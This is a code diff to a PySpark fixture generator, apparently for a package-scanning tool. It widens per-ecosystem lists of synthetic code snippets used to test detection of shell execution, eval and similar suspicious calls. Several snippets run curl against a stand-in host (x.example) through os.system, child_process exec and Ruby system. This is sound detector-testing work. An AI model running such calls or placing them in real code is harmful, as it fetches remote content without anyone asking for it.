@@ -25,7 +25,7 @@ from pyspark.sql import functions as F
 from pkgsift.functions.colcache import cached_columns
 
 # ---------------------------------------------------------------------------
-# Snippets per ecosystem, indexed by doc_id % 7 (FIXTURES.md §3).
+# Snippets per ecosystem, indexed by doc_id % 11 (FIXTURES.md §3).
 PYPI_SNIPPETS = [
     'import os, base64 ; os.system("curl http://x.example/a") ; ',
     'import subprocess ; subprocess.Popen("ls") ; subprocess.run("id") ; ',
@@ -34,6 +34,7 @@ PYPI_SNIPPETS = [
     '',
     'import os, \\\n  sys ; os\\\n                .system("id") ; ',
     'eval                    ("1") ; a.b.c.d.e.f.g.h.i.j.k.l.m.n.o.p.q.r.s.t.run("x") ; ',
+    'import socket, \\\n  http.client as h ; def exec(x): return x ; ', 'x = "eval(1)" ; ', 'import sys ; obj.eval("x") ; ', '',
 ]
 NPM_SNIPPETS = [
     'const cp = require("child_process"); cp.exec("curl http://x.example/a"); ',
@@ -43,7 +44,13 @@ NPM_SNIPPETS = [
     '',
     'const cp = require("child_process"); cp\n                    .exec("ls"); import "fs/promises"; ',
     'function* eval(x) { } ; a.b.c.d.e.f.g.h.i.j.k.l.m.n.o.p.q.r.s.t.run("x"); ',
+    'const util = require("child_process");\nexec("ls"); ',
+    'exec(a, (b), require("child_process")); ',
+    'class A { eval(x) { return (x) } get exec() { return 1 } } ',
+    'require("child_process").spawn("ls"); ',
 ]
+# those of them whose call has no module but names child_process in its own text
+NPM_NAMES_CHILD_PROCESS = [NPM_SNIPPETS[8], NPM_SNIPPETS[10]]
 RUBY_SNIPPETS = [
     'require "net/http" ; system("curl http://x.example/a") ; ',
     'require "open3" ; Open3.popen3("ls") ; ',
@@ -51,7 +58,7 @@ RUBY_SNIPPETS = [
     'require "base64" ; k = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo" ; ',
     '',
     'require "fileutils" ; spawn                    ("x") ; ',
-    'puts 1 ; ',
+    'puts 1 ; ', 'class_eval("x") ; ', 'require "socket" ; ', 'exec("ls") ; ', '',
 ]
 PATH_STEMS = ["src/main", "lib/index", "tests/case", "dist/index"]
 ECOSYSTEMS = ["pypi", "npm", "rubygems"]
@@ -227,9 +234,9 @@ CODE_FILES_SQL = f"""code_files AS (
     concat('1.', CAST(CAST(floor((doc_id % 12)/4.0) AS BIGINT) AS VARCHAR)) AS version,
     concat({_sql_case('doc_id % 4', PATH_STEMS)}, {_sql_case(f'{_G} % 3', EXTENSIONS)}) AS path,
     concat(CASE {_G} % 3
-             WHEN 0 THEN {_sql_case('doc_id % 7', PYPI_SNIPPETS)}
-             WHEN 1 THEN {_sql_case('doc_id % 7', NPM_SNIPPETS)}
-             ELSE {_sql_case('doc_id % 7', RUBY_SNIPPETS)} END,
+             WHEN 0 THEN {_sql_case('doc_id % 11', PYPI_SNIPPETS)}
+             WHEN 1 THEN {_sql_case('doc_id % 11', NPM_SNIPPETS)}
+             ELSE {_sql_case('doc_id % 11', RUBY_SNIPPETS)} END,
            regexp_replace(text, '[^ -~]', ' ', 'g')) AS content
   FROM documents)"""
 
